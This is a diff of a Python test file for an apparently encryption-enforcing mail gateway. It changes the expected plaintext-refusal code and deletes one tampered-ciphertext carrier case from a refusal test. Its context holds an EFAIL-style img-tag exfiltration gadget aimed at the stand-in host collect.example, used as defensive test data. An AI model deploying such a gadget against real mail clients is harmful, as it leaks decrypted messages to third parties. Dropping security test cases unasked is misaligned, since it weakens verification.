@@ -13,6 +13,7 @@ from tests.officers import encrypted_entity, parse, signed_entity
 from tests.scenarios.judged import LIST, Ground, fields_of, founded
 
 REFUSED = "550 5.7.1 No good signature of an active member over the whole mail"
+IN_THE_CLEAR = "523 5.7.10 Encryption needed: encrypt the whole mail to the key of this address"
 GADGET = b'<img src="http://collect.example/?'
 FALSE = """\
 Author:    Bo Berg <bo.berg@police.example>, Police, SE
@@ -59,7 +60,7 @@ SURROUNDED = {
 def test_nothing_in_the_clear_stands_beside_what_was_encrypted(
     ground: Ground, parts: tuple[bytes, ...]
 ) -> None:
-    assert ground.post(around(ground.mail(), *parts)) == REFUSED
+    assert ground.post(around(ground.mail(), *parts)) == IN_THE_CLEAR
 
 
 def test_a_captured_ciphertext_is_opened_for_nobody_else(ground: Ground) -> None:
@@ -70,8 +71,6 @@ def test_a_captured_ciphertext_is_opened_for_nobody_else(ground: Ground) -> None
     for carrier in (
         ground.mail(ground.stranger, text=message.decode()),
         ground.mail(ground.stranger, attachments=[("a.asc", "application/pgp-encrypted", message)]),
-        fields_of(ground.mail(ground.stranger))
-        + encrypted_entity(message).replace(b"1\r\n", b"2\r\n"),
     ):
         assert ground.post(carrier, ground.stranger) == REFUSED
 
